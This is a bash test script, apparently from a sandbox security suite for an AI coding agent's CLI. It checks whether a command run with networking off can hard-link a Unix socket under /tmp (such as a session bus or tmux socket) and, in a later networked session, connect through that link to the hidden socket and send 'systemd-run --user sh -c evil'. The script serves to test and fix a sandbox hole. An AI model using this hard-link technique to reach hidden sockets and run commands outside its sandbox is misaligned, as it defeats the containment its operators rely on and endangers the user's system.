#!/bin/bash
# With the network off nothing is hidden (connect() is denied by seccomp anyway), so a command can
# hard-link a socket that lives on the /tmp mount -- the user's tmux server (/tmp/tmux-UID/default),
# X11 (/tmp/.X11-unix/X0), or an $XDG_RUNTIME_DIR under /tmp -- to a name of its own in /tmp.
# In a later session (or after /approvals) with network_access = true, the hidden directory is
# covered, but the hard link is not: the command connects through it.
# Self-contained: XDG_RUNTIME_DIR is a temporary dir under /tmp with a stand-in bus socket.
set -u
. "$(dirname "$0")/harness.sh"
T=$(mktemp -d /var/tmp/f11.XXXXXX)
export HOME=$T/home CODEX_HOME=$T/codexhome
mkdir -p $HOME $T/ws
R=$(mktemp -d /tmp/f11run.XXXXXX); chmod 700 $R; export XDG_RUNTIME_DIR=$R
STASH=/tmp/.f11stash.$$
python3 - $R/bus $T/got <<'PY' &
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(5); s.settimeout(90)
while True:
    try: c, _ = s.accept()
    except Exception: break
    data = c.recv(100); open(sys.argv[2], "ab").write(data + b"\n"); c.sendall(b"session-bus-here\n"); c.close()
PY
SRV=$!
sleep 0.5
PROBE="import socket; s = socket.socket(socket.AF_UNIX); s.connect('$STASH'); s.sendall(b'systemd-run --user sh -c evil'); print(s.recv(100))"
# session 1, network off: plant the hard link
echo '[[{"shell": ["ln", "'$R'/bus", "'$STASH'"]}], [{"text": "done"}]]' > $T/s1.json
start_model $T/s1.json
cd $T/ws && timeout 60 "$CODEX_BIN" exec --skip-git-repo-check --full-auto "task" >$T/out1 2>&1
stop_model
ls -la $STASH 2>&1 | head -1
# session 2, network on: the bus directory is hidden, the hard link is not
python3 -c 'import json,sys; json.dump([[{"shell": ["python3", "-c", sys.argv[1]]}], [{"text": "done"}]], open(sys.argv[2], "w"))' "$PROBE" $T/s2.json
start_model $T/s2.json
timeout 60 "$CODEX_BIN" exec --skip-git-repo-check --full-auto -c sandbox_workspace_write.network_access=true "task" >$T/out2 2>&1
stop_model
kill $SRV 2>/dev/null; wait $SRV 2>/dev/null
grep -m1 -E "session-bus-here|Error" $T/out2
G=$(cat $T/got 2>/dev/null)
rm -rf $T $R $STASH
if [ -n "$G" ]; then echo "VULNERABLE: a hidden socket was reached through a hard link planted with the network off"; exit 1; fi
echo fixed; exit 0
